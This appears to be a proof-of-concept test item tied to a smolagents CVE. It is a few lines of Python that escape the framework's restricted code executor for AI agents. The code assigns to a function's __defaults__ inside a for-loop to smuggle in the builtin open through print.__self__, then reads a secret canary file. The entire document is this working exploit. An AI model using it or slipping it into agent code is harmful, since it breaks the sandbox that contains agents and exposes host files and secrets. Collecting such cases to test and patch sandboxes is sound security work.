# source: smolagents CVE-2026-4963
# effect: secret

def show(path, tool=len):
    return tool(path)


for show.__defaults__ in [(print.__self__.open,)]:
    print(show("/tmp/canary/secret").read())
